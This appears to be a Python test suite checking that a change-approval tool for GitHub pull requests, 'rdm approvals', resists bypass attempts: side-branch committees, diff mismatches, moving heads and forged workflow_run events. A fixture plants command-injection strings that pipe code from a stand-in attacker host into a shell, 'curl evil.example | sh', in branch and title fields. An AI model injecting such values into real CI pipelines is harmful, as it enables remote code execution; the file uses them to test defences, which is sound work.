"""`rdm approvals` under attack: real git repositories in tmp, the fake GitHub over HTTP.

Each test is a way a pull request could try to get `rdm/committee = success`
without the committee: a PR into a side branch whose policy names other people,
a diff GitHub lists differently from git, a standard change that slips other
files in, a head that moves while rdm decides, and a `workflow_run` event that
names a PR it was not for.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import git
import pytest

from conftest import ROOT
from github_fake import SLUG, FakeGitHub, FakePull

CM = ["ana-gerente-mudancas", "bruno-infra", "carla-dba", "diretor-services"]
NORMAL = "rdms/2026/RDM-2026-0041.yaml"  # targets grupo-alvorada, hospital-santa-luzia
STANDARD = "rdms/2026/RDM-2026-0044.yaml"  # patch-de-imagem-homologacao on hospital-santa-luzia
HOSPITAL = "topologies/hospital-santa-luzia.yaml"
ALVORADA = "topologies/grupo-alvorada.yaml"
HOMOLOG_IMAGE = "registry.saas.local/protheus/appserver:12.1.2410-20261119"


class Clone:
    """A real repository: `main` holds the example without RDM-0041 and RDM-0044."""

    def __init__(self, root: Path) -> None:
        for folder in ("rdms", "topologies", "policy"):
            shutil.copytree(ROOT / folder, root / folder)
        (root / NORMAL).unlink()
        (root / STANDARD).unlink()
        self.root = root
        self.repo = git.Repo.init(root, initial_branch="main")
        with self.repo.config_writer() as config:
            config.set_value("user", "name", "Test").set_value("user", "email", "t@example.com")
        self.base = self.commit("base")

    def commit(self, message: str, files: dict[str, str | None] | None = None) -> str:
        """Write (or, for None, delete) files, commit everything, return the SHA."""
        for relative, content in (files or {}).items():
            path = self.root / relative
            if content is None:
                path.unlink()
            else:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(content, encoding="utf-8")
        self.repo.git.add(A=True)
        self.repo.index.commit(message)
        return self.repo.head.commit.hexsha

    def branch(self, name: str, start: str) -> None:
        self.repo.git.checkout("-B", name, start)

    def text(self, relative: str) -> str:
        return (ROOT / relative).read_text(encoding="utf-8")


@pytest.fixture
def clone(tmp_path: Path) -> Clone:
    return Clone(tmp_path / "clone")


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, fake: FakeGitHub) -> None:
    monkeypatch.setenv("GITHUB_API_URL", fake.api_url)
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_test")
    monkeypatch.setenv("RDM_BOT_LOGIN", "rdm-committee[bot]")  # the committee App's account
    monkeypatch.setenv("GITHUB_REPOSITORY", SLUG)
    for name in ("GITHUB_SERVER_URL", "GITHUB_RUN_ID"):
        monkeypatch.delenv(name, raising=False)


def approvals(run_rdm, clone: Clone, *args: str) -> tuple[int, str, str]:
    return run_rdm("approvals", *args, "--repo", str(clone.root))


def verdict_of(out: str) -> dict:
    return json.loads(out)


def homolog_retag(text: str, image: str = HOMOLOG_IMAGE) -> str:
    """The hospital topology with a new image on the homolog appserver only."""
    return text.replace(
        "  protheus-appserver-homolog:\n",
        f"  protheus-appserver-homolog:\n    image: {image}\n",
        1,
    )


def standard_head(clone: Clone, extra: dict[str, str | None] | None = None) -> str:
    clone.branch("rdm-44", clone.base)
    files: dict[str, str | None] = {
        STANDARD: clone.text(STANDARD),
        HOSPITAL: homolog_retag(clone.text(HOSPITAL)),
    }
    return clone.commit("standard change", {**files, **(extra or {})})


def standard_pull(fake: FakeGitHub, number: int, head: str, base: str) -> FakePull:
    pull = fake.pull(number, "rh-sistemas-qa", head, base)
    pull.change(STANDARD, "added").change(HOSPITAL)
    return pull.review("eduardo-gmud", "APPROVED")


# ------------------------------------------------- only the protected branch


def side_branch_with_its_own_committee(clone: Clone) -> tuple[str, str]:
    """`release-x` names mallory as the whole CM; the PR's head adds a normal RDM."""
    committee = (
        clone.text("policy/committee.yaml")
        .replace(
            "members: [ana-gerente-mudancas, bruno-infra, carla-dba, diretor-services]",
            "members: [mallory]",
            1,
        )
        .replace("  carla-dba: [gustavo-dba]\n", "")
        .replace(
            "    fixedRoles: [gestor-de-mudanca, gestor-de-suporte-services, diretor-services, "
            "coordenador-suporte]\n",
            "",
            1,
        )
    )
    clone.branch("release-x", clone.base)
    side = clone.commit("side policy", {"policy/committee.yaml": committee})
    clone.branch("rdm-41", side)
    head = clone.commit("rdm", {NORMAL: clone.text(NORMAL)})
    return side, head


def test_a_pr_into_another_branch_is_rejected_and_nothing_is_published(
    clone, fake, env, run_rdm
):
    side, head = side_branch_with_its_own_committee(clone)
    pull = fake.pull(30, "mallory-helper", head, side).change(NORMAL, "added")
    pull.base_ref = "release-x"
    pull.review("mallory", "APPROVED")
    code, out, err = approvals(run_rdm, clone, "30", "--publish", "--format", "json")
    assert code == 1
    assert verdict_of(out)["verdict"] == "rejected"
    assert verdict_of(out)["reasons"] == [
        "the PR merges into `release-x`, not into the protected branch `main`: rdm decides "
        "only PRs into `main`, and publishes nothing for others"
    ]
    assert err == (
        "rdm: not published: the PR merges into `release-x`, not into the protected branch "
        "`main`: rdm decides only PRs into `main`, and publishes nothing for others\n"
    )
    assert fake.statuses == []


def test_the_same_head_into_the_protected_branch_needs_the_real_committee(
    clone, fake, env, run_rdm
):
    """The side branch's policy would approve it; main's policy (at base) does not."""
    _, head = side_branch_with_its_own_committee(clone)
    fake.pull(31, "mallory-helper", head, clone.base).change(NORMAL, "added").change(
        "policy/committee.yaml"
    ).review("mallory", "APPROVED")
    code, out, _ = approvals(run_rdm, clone, "31", "--publish", "--format", "json")
    assert code == 1
    result = verdict_of(out)
    assert (result["committee"], result["verdict"]) == ("CM", "pending")
    assert {
        "login": "mallory",
        "state": "not_a_member",
        "capacity": None,
        "involved": False,
        "roles": [],
    } in result["members"]
    assert [body["state"] for _, body in fake.statuses] == ["pending"]


def test_protected_branch_can_be_named_and_then_only_it_is_decided(clone, fake, env, run_rdm):
    side, head = side_branch_with_its_own_committee(clone)
    pull = fake.pull(30, "mallory-helper", head, side).change(NORMAL, "added")
    pull.base_ref = "release-x"
    pull.review("mallory", "APPROVED").add_label("encaminhada", "paula-po")
    code, out, err = approvals(run_rdm, clone, "30", "--protected-branch", "release-x")
    assert code == 0, out + err
    code, out, _ = approvals(run_rdm, clone, "30", "--protected-branch", "main")
    assert code == 1
    assert "not into the protected branch `main`" in out


def test_the_default_branch_comes_from_github(clone, fake, env, run_rdm):
    head = standard_head(clone)
    pull = standard_pull(fake, 32, head, clone.base)
    pull.default_branch = "trunk"  # main is not what the repository protects
    code, out, _ = approvals(run_rdm, clone, "32", "--publish")
    assert code == 1
    assert "the PR merges into `main`, not into the protected branch `trunk`" in out
    assert fake.statuses == []


def test_a_side_branch_pr_is_rejected_without_reading_git(clone, fake, env, run_rdm):
    """Its commits need not even be in the clone: nothing of the side branch is read."""
    pull = fake.pull(33, "mallory", "e" * 40, "f" * 40).change(NORMAL, "added")
    pull.base_ref = "release-x"
    code, out, err = approvals(run_rdm, clone, "33")
    assert (code, err) == (1, "")
    assert "rdm decides only PRs into `main`" in out


# ------------------------------------------------------ the diff is git's


def test_a_file_github_does_not_list_still_counts_and_the_disagreement_rejects(
    clone, fake, env, run_rdm
):
    head = standard_head(clone, {"tools/rdm/decisions/approvals.py": "APPROVE = True\n"})
    standard_pull(fake, 12, head, clone.base)  # GitHub's list leaves tools/ out
    code, out, _ = approvals(run_rdm, clone, "12", "--publish", "--format", "json")
    assert code == 1
    result = verdict_of(out)
    assert result["verdict"] == "rejected"
    assert result["reasons"][0] == (
        f"GitHub's list of changed files differs from git's diff {clone.base[:7]}...{head[:7]} "
        "(only in GitHub's: none; only in git's: tools/rdm/decisions/approvals.py): "
        "rejected until they agree"
    )
    assert [body["state"] for _, body in fake.statuses] == ["failure"]


def test_a_file_github_lists_but_git_does_not_change_rejects(clone, fake, env, run_rdm):
    head = standard_head(clone)
    standard_pull(fake, 12, head, clone.base).change(ALVORADA)
    code, out, _ = approvals(run_rdm, clone, "12", "--format", "json")
    assert code == 1
    assert verdict_of(out)["reasons"][0].endswith(
        f"(only in GitHub's: {ALVORADA}; only in git's: none): rejected until they agree"
    )


def test_an_empty_list_from_github_does_not_hide_the_changes(clone, fake, env, run_rdm):
    head = standard_head(clone)
    fake.pull(12, "rh-sistemas-qa", head, clone.base).review("eduardo-gmud", "APPROVED")
    code, out, _ = approvals(run_rdm, clone, "12", "--format", "json")
    assert code == 1
    assert verdict_of(out)["verdict"] == "rejected"
    assert f"only in git's: {STANDARD}, {HOSPITAL}" in verdict_of(out)["reasons"][0]


def test_the_diff_starts_at_the_merge_base_as_githubs_does(clone, fake, env, run_rdm):
    """main moved after the PR branched: its changes are not the PR's (three dots, not two)."""
    head = standard_head(clone)
    clone.branch("main", clone.base)
    moved = clone.commit(
        "main moves on",
        {
            ALVORADA: clone.text(ALVORADA).replace("replicas: 3", "replicas: 4", 1),
            HOSPITAL: clone.text(HOSPITAL).replace("replicas: 2", "replicas: 3", 1),
        },
    )
    assert clone.text(ALVORADA) != (clone.root / ALVORADA).read_text(encoding="utf-8")
    standard_pull(fake, 12, head, moved)
    code, out, err = approvals(run_rdm, clone, "12", "--format", "json")
    assert code == 0, out + err
    result = verdict_of(out)
    assert (result["committee"], result["verdict"]) == ("standard", "approved")


def test_a_renamed_topology_needs_both_names_covered(clone, fake, env, run_rdm):
    clone.branch("rdm-41", clone.base)
    clone.repo.git.mv(ALVORADA, "topologies/grupo-alvorada-2.yaml")
    head = clone.commit("rename", {NORMAL: clone.text(NORMAL)})
    pull = fake.pull(14, "eduardo-gmud", head, clone.base).change(NORMAL, "added")
    pull.change("topologies/grupo-alvorada-2.yaml", "renamed", ALVORADA)
    for login in CM:
        pull.review(login, "APPROVED")
    code, out, _ = approvals(run_rdm, clone, "14", "--format", "json")
    assert code == 1
    assert verdict_of(out)["reasons"][0] == (
        "topologies/grupo-alvorada-2.yaml changes, but no RDM in this PR has "
        "grupo-alvorada-2 among its targets"
    )


def test_branches_without_a_common_ancestor_are_an_outside_failure(clone, fake, env, run_rdm):
    clone.repo.git.checkout("--orphan", "elsewhere")
    head = clone.commit("unrelated", {NORMAL: clone.text(NORMAL)})
    fake.pull(15, "eduardo-gmud", head, clone.base).change(NORMAL, "added")
    code, _, err = approvals(run_rdm, clone, "15")
    assert code == 3
    assert err == (
        f"rdm: {clone.base[:12]} and {head[:12]} have no common ancestor in the clone at "
        f"{clone.root}: fetch their whole history (in GitHub Actions: actions/checkout with "
        "fetch-depth: 0)\n"
    )


@pytest.mark.parametrize(
    ("extra", "listed", "finding"),
    [
        (
            {"rdms/2026/RDM-2026-0042.yaml": None},
            [("rdms/2026/RDM-2026-0042.yaml", "removed")],
            "rdms/2026/RDM-2026-0042.yaml: the PR deletes an RDM, which no template covers",
        ),
        (
            {"topologies/notas.txt": "anything\n"},
            [("topologies/notas.txt", "added")],
            "topologies/notas.txt: not an RDM nor a topology file, which no template covers",
        ),
        (
            {"tools/rdm/decisions/approvals.py": "APPROVE = True\n"},
            [("tools/rdm/decisions/approvals.py", "added")],
            "tools/rdm/decisions/approvals.py: not an RDM nor a topology file, "
            "which no template covers",
        ),
        (
            {".github/workflows/committee.yml": "on: push\n"},
            [(".github/workflows/committee.yml", "added")],
            ".github/workflows/committee.yml: not an RDM nor a topology file, "
            "which no template covers",
        ),
        (
            {"topologies/nova-empresa.yaml": "orgId: nova-empresa\n"},
            [("topologies/nova-empresa.yaml", "added")],
            "topologies/nova-empresa.yaml: the PR adds the whole topology",
        ),
    ],
    ids=["deletes-an-rdm", "adds-a-stray-file", "edits-tools", "edits-a-workflow", "adds-a-client"],
)
def test_a_standard_change_that_slips_in_more_is_beyond_its_template(
    clone, fake, env, run_rdm, extra, listed, finding
):
    head = standard_head(clone, extra)
    pull = standard_pull(fake, 12, head, clone.base)
    for path, status in listed:
        pull.change(path, status)
    code, out, _ = approvals(run_rdm, clone, "12", "--format", "json")
    assert code == 1
    result = verdict_of(out)
    assert result["committee"] == "CM"
    assert result["verdict"] in ("pending", "rejected")  # a new client is not a target, too
    assert finding in result["reasons"]


def test_renaming_an_rdm_in_a_standard_change_is_beyond_its_template(clone, fake, env, run_rdm):
    clone.branch("rdm-44", clone.base)
    clone.repo.git.mv("rdms/2026/RDM-2026-0042.yaml", "rdms/2026/RDM-2026-0142.yaml")
    head = clone.commit(
        "rename",
        {STANDARD: clone.text(STANDARD), HOSPITAL: homolog_retag(clone.text(HOSPITAL))},
    )
    pull = standard_pull(fake, 12, head, clone.base)
    pull.change("rdms/2026/RDM-2026-0142.yaml", "renamed", "rdms/2026/RDM-2026-0042.yaml")
    code, out, _ = approvals(run_rdm, clone, "12", "--format", "json")
    assert code == 1
    reasons = verdict_of(out)["reasons"]
    assert (
        "rdms/2026/RDM-2026-0042.yaml: the PR renames an RDM, which no template covers"
        in reasons
    )
    assert (  # its id is still RDM-2026-0042: an RDM is known by its file name
        "rdms/2026/RDM-2026-0142.yaml is not a valid RDM at the head commit "
        "(run `rdm validate rdms/2026/RDM-2026-0142.yaml`)" in reasons
    )


# ----------------------------------------------- the head moves meanwhile


def test_a_head_that_moves_while_rdm_decides_is_not_published(clone, fake, env, run_rdm):
    head = standard_head(clone)
    pull = standard_pull(fake, 12, head, clone.base).move_head_after(1, "9" * 40)
    code, out, err = approvals(run_rdm, clone, "12", "--publish")
    assert code == 1
    assert "standard approved" in out.splitlines()[0]
    assert err == (
        f"rdm: not published: PR #12's head moved from {head[:7]} to 9999999 while rdm "
        "decided; the run for the new head decides it\n"
    )
    assert fake.statuses == []
    assert pull.reads == 2


def test_a_base_changed_while_rdm_decides_is_not_published(clone, fake, env, run_rdm):
    head = standard_head(clone)
    standard_pull(fake, 12, head, clone.base).retarget_after(1, "release-x")
    code, _, err = approvals(run_rdm, clone, "12", "--publish")
    assert code == 1
    assert err == (
        "rdm: not published: PR #12's base changed from `main` to `release-x` while rdm decided\n"
    )
    assert fake.statuses == []


# ------------------------------------------------------------ workflow_run


def event(tmp_path: Path, head: str, numbers: list[int], head_repo: str = SLUG, **run) -> str:
    """A workflow_run event file as GitHub writes it (what rdm reads, and text it must not)."""
    payload = {
        "action": "completed",
        "workflow_run": {
            "id": 30433642,
            "name": "committee-relay",
            "head_branch": "rdm-44; curl evil.example | sh",
            "display_title": "$(curl evil.example)",
            "head_sha": head,
            "event": "pull_request_review",
            "status": "completed",
            "conclusion": "success",
            "pull_requests": [
                {
                    "id": 900 + n,
                    "number": n,
                    "url": f"https://api.github.com/repos/{SLUG}/pulls/{n}",
                    "head": {"ref": "rdm-44", "sha": head, "repo": {"name": "rdm-changes"}},
                    "base": {"ref": "main", "sha": "0" * 40, "repo": {"name": "rdm-changes"}},
                }
                for n in numbers
            ],
            "repository": {"full_name": SLUG},
            "head_repository": {"full_name": head_repo},
            **run,
        },
        "repository": {"full_name": SLUG, "default_branch": "main"},
    }
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload), encoding="utf-8")
    return str(path)


def test_a_workflow_run_decides_and_publishes_its_pr(clone, fake, env, run_rdm, tmp_path):
    head = standard_head(clone)
    standard_pull(fake, 12, head, clone.base)
    code, out, err = approvals(
        run_rdm, clone, "--from-workflow-run", event(tmp_path, head, [12]), "--publish"
    )
    assert code == 0, err
    assert out.splitlines()[0] == "PR #12 (RDM-2026-0044 P4): standard approved"
    assert [(sha, body["state"]) for sha, body in fake.statuses] == [(head, "success")]


def test_a_workflow_run_picks_the_pr_whose_head_is_its_commit(
    clone, fake, env, run_rdm, tmp_path
):
    head = standard_head(clone)
    fake.pull(11, "mallory", "9" * 40, clone.base).change(NORMAL, "added")
    standard_pull(fake, 12, head, clone.base)
    code, out, _ = approvals(
        run_rdm, clone, "--from-workflow-run", event(tmp_path, head, [11, 12]), "--publish"
    )
    assert code == 0
    assert out.startswith("PR #12 ")
    assert [sha for sha, _ in fake.statuses] == [head]


@pytest.mark.parametrize(
    ("setup", "message"),
    [
        (
            lambda pull: setattr(pull, "head", "9" * 40),
            "#12's head is 9999999, not {head7}, the commit this run was for: the PR moved "
            "since (a newer run decides it) or the run is not its",
        ),
        (
            lambda pull: setattr(pull, "head_repo", "mallory/rdm-changes"),
            "#12 comes from mallory/rdm-changes, not from saas-team/rdm-changes: rdm decides "
            "only PRs from this repository's branches",
        ),
        (
            lambda pull: setattr(pull, "head_repo", None),
            "#12 comes from a deleted repository, not from saas-team/rdm-changes",
        ),
        (
            lambda pull: setattr(pull, "base_ref", "release-x"),
            "#12 merges into `release-x`, not into the protected branch `main`",
        ),
        (lambda pull: setattr(pull, "state", "closed"), "#12 is closed, not open"),
    ],
    ids=["other-head-sha", "fork-head", "deleted-fork", "side-branch", "closed"],
)
def test_a_workflow_run_whose_pr_does_not_match_decides_nothing(
    clone, fake, env, run_rdm, tmp_path, setup, message
):
    head = standard_head(clone)
    setup(standard_pull(fake, 12, head, clone.base))
    code, out, err = approvals(
        run_rdm, clone, "--from-workflow-run", event(tmp_path, head, [12]), "--publish"
    )
    assert (code, out) == (1, "")
    assert err.startswith("rdm: nothing decided: " + message.format(head7=head[:7]))
    assert fake.statuses == []
    assert [path for _, path in fake.requests] == [f"/repos/{SLUG}/pulls/12"]


def test_a_workflow_run_naming_a_pr_of_another_repository_decides_nothing(
    clone, fake, env, run_rdm, tmp_path
):
    """A fork's branch named like one here: the run may list numbers of the fork's PRs."""
    head = standard_head(clone)
    code, _, err = approvals(
        run_rdm, clone, "--from-workflow-run", event(tmp_path, head, [404]), "--publish"
    )
    assert code == 1
    assert err == f"rdm: nothing decided: #404 is not a pull request of {SLUG}\n"
    assert fake.statuses == []


@pytest.mark.parametrize(
    ("numbers", "head_repo", "run", "message"),
    [
        ([], SLUG, {}, "the run names no pull request (GitHub names none for a fork's PR)"),
        (
            [12],
            "mallory/rdm-changes",
            {},
            "the run was for a commit of mallory/rdm-changes, not of saas-team/rdm-changes",
        ),
        (
            [12],
            SLUG,
            {"repository": {"full_name": "mallory/rdm-changes"}},
            "the run belongs to mallory/rdm-changes, not to saas-team/rdm-changes",
        ),
        (list(range(1, 12)), SLUG, {}, "the run names 11 pull requests; rdm checks at most 10"),
    ],
    ids=["no-pr", "fork-run", "other-repository", "too-many"],
)
def test_a_workflow_run_refused_before_asking_github(
    clone, fake, env, run_rdm, tmp_path, numbers, head_repo, run, message
):
    head = standard_head(clone)
    standard_pull(fake, 12, head, clone.base)
    path = event(tmp_path, head, numbers, head_repo, **run)
    code, _, err = approvals(run_rdm, clone, "--from-workflow-run", path, "--publish")
    assert code == 1
    assert err.startswith(f"rdm: nothing decided: {message}")
    assert fake.requests == []


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{", "is not JSON"),
        ("[]", "it has no `workflow_run` object"),
        ('{"workflow_run": {"head_sha": "main"}}', "`workflow_run.head_sha` is not a commit SHA"),
        (
            json.dumps({"workflow_run": {"head_sha": "a" * 40, "repository": {"full_name": SLUG},
                                         "pull_requests": [{"number": "12"}]}}),
            "an entry of `workflow_run.pull_requests` has no PR number",
        ),
        ("[" * 100_000 + "]" * 100_000, "is not JSON"),
    ],
    ids=["broken", "list", "sha", "number-text", "deep"],
)
def test_a_file_that_is_not_a_workflow_run_event_is_a_usage_error(
    clone, fake, env, run_rdm, tmp_path, content, message
):
    path = tmp_path / "event.json"
    path.write_text(content, encoding="utf-8")
    code, _, err = approvals(run_rdm, clone, "--from-workflow-run", str(path))
    assert code == 2
    assert message in err
    assert fake.requests == []


def test_a_number_and_an_event_together_are_a_usage_error(clone, fake, env, run_rdm, tmp_path):
    code, _, err = approvals(
        run_rdm, clone, "12", "--from-workflow-run", event(tmp_path, "a" * 40, [12])
    )
    assert code == 2
    assert err == "rdm: usage: give either PR_NUMBER or --from-workflow-run EVENT_JSON\n"


@pytest.mark.parametrize("slug", ["owner/name/extra", "owner/../x", "a/b?per_page=1", "../x"])
def test_a_repository_slug_that_would_change_the_api_path_is_a_usage_error(
    clone, fake, env, run_rdm, slug
):
    code, _, err = approvals(run_rdm, clone, "12", "--repo-slug", slug)
    assert code == 2
    assert "--repo-slug owner/name" in err
    assert fake.requests == []


def test_an_http_api_url_is_refused_through_the_command(clone, env, run_rdm, monkeypatch):
    monkeypatch.setenv("GITHUB_API_URL", "http://api.github.example")
    code, _, err = approvals(run_rdm, clone, "12")
    assert code == 2
    assert err == (
        "rdm: usage: GITHUB_API_URL must be https:// (http://api.github.example is plain http); "
        "plain http is accepted only on a loopback address (127.0.0.1, ::1, localhost), for tests\n"
    )


def test_an_answer_of_the_wrong_shape_exits_3(clone, fake, env, run_rdm):
    fake.fail(rf"^/repos/{SLUG}/pulls/12$", 200, body=["not", "a", "pull request"])
    code, _, err = approvals(run_rdm, clone, "12")
    assert code == 3
    assert err == (
        f"rdm: pull request #12 of {SLUG}: GitHub's answer is not the shape expected: "
        "the pull request is a list, not an object\n"
    )
